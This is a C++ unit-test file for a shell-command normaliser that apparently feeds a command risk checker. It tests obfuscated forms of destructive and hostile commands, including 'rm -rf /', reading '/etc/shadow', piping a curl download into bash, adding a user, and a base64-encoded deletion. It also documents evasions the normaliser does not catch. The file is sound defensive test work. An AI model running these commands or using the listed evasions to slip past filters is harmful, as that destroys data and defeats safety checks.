// The shell normaliser: each obfuscation it undoes, and the ones it does not (documented gaps).
#include <catch2/catch.hpp>

#include <algorithm>

#include "server/risk/shell_normalizer.hpp"

using vigil::risk::normalizeCommand;

namespace {
bool hasSegment(const std::string& cmd, const std::string& seg) {
  auto n = normalizeCommand(cmd);
  return std::find(n.segments.begin(), n.segments.end(), seg) != n.segments.end();
}
}  // namespace

TEST_CASE("quotes and backslash escapes are removed from words", "[risk][normalizer]") {
  CHECK(hasSegment(R"(r'm' -"rf" \/)", "rm -rf /"));
  CHECK(hasSegment(R"(\r\m -rf /)", "rm -rf /"));
  CHECK(hasSegment(R"("rm" '-rf' "/")", "rm -rf /"));
  CHECK(hasSegment("rm -rf \\\n /", "rm -rf /"));  // backslash-newline continues the line
}

TEST_CASE("runs of blanks collapse to one space", "[risk][normalizer]") {
  CHECK(normalizeCommand("  rm \t  -rf     /  ").line == "rm -rf /");
}

TEST_CASE("$IFS between words is a blank", "[risk][normalizer]") {
  CHECK(hasSegment("rm${IFS}-rf${IFS}/", "rm -rf /"));
  CHECK(hasSegment("rm$IFS-rf$IFS/", "rm -rf /"));
}

TEST_CASE("wrapper commands are dropped", "[risk][normalizer]") {
  CHECK(hasSegment("sudo rm -rf /", "rm -rf /"));
  CHECK(hasSegment("sudo -u root -E rm -rf /", "rm -rf /"));
  CHECK(hasSegment("env -i PATH=/bin rm -rf /", "rm -rf /"));
  CHECK(hasSegment("LANG=C FOO=bar rm -rf /", "rm -rf /"));
  CHECK(hasSegment("nohup nice -n 10 command rm -rf /", "rm -rf /"));
  CHECK(hasSegment("timeout -s KILL 10 exec rm -rf /", "rm -rf /"));
  CHECK(hasSegment("doas time rm -rf /", "rm -rf /"));
}

TEST_CASE("absolute and relative command paths reduce to the command name", "[risk][normalizer]") {
  CHECK(hasSegment("/bin/rm -rf /", "rm -rf /"));
  CHECK(hasSegment("/usr/bin/sudo /usr/bin/rm -rf /", "rm -rf /"));
  CHECK(hasSegment("./rm -rf /", "rm -rf /"));
  // Only the command word: arguments keep their paths.
  CHECK(hasSegment("cat /etc/shadow", "cat /etc/shadow"));
}

TEST_CASE("lists and pipelines are split into commands and the line keeps the operators", "[risk][normalizer]") {
  auto n = normalizeCommand("cd /tmp;ls&&rm -rf / || echo x|sh");
  CHECK(n.line == "cd /tmp ; ls && rm -rf / || echo x | sh");
  CHECK(hasSegment("cd /tmp;ls&&rm -rf / || echo x|sh", "rm -rf /"));
  CHECK(normalizeCommand("curl -s http://x/a.sh | sudo bash").line == "curl -s http://x/a.sh | bash");
}

TEST_CASE("command substitutions are normalised and matched on their own", "[risk][normalizer]") {
  CHECK(hasSegment("echo $(rm -rf /)", "rm -rf /"));
  CHECK(hasSegment("echo `rm -rf /`", "rm -rf /"));
  CHECK(hasSegment("$(echo rm) -rf /", "echo rm"));
}

TEST_CASE("nested shell command strings are normalised as command lines", "[risk][normalizer]") {
  CHECK(hasSegment("bash -c 'rm -rf /'", "rm -rf /"));
  CHECK(hasSegment("sh -lc \"sudo /bin/rm -rf /\"", "rm -rf /"));
  CHECK(hasSegment("su - root -c 'useradd evil'", "useradd evil"));
  CHECK(hasSegment("bash -c \"bash -c 'rm -rf /'\"", "rm -rf /"));
}

TEST_CASE("split short flags are also tried merged and sorted", "[risk][normalizer]") {
  CHECK(hasSegment("rm -r -f /", "rm -fr /"));
  CHECK(hasSegment("rm -f -r /", "rm -fr /"));
  CHECK(hasSegment("rm -rf /", "rm -fr /"));
  CHECK(hasSegment("rm -rf /", "rm -rf /"));  // the written form is kept too
}

TEST_CASE("hostile input is bounded and never throws", "[risk][normalizer]") {
  std::string deep(100000, '(');
  CHECK_NOTHROW(normalizeCommand(deep));
  std::string subs;
  for (int i = 0; i < 2000; ++i) subs += "$(";
  CHECK_NOTHROW(normalizeCommand(subs));
  CHECK_NOTHROW(normalizeCommand("'unterminated \"quote \\"));
  CHECK_NOTHROW(normalizeCommand(std::string("\0\xff\xfe", 3)));
}

TEST_CASE("documented gaps: variables, eval of built strings and globs are not resolved", "[risk][normalizer][gaps]") {
  // These are NOT defended (docs/risk.md): the normalised forms do not contain "rm -rf /".
  CHECK_FALSE(hasSegment("a=rm; $a -rf /", "rm -rf /"));
  CHECK_FALSE(hasSegment("eval \"r\"\"m -rf /\"", "rm -rf /"));
  CHECK_FALSE(hasSegment("/bin/r? -rf /", "rm -rf /"));
  CHECK_FALSE(hasSegment("echo cm0gLXJmIC8= | base64 -d | sh", "rm -rf /"));
}
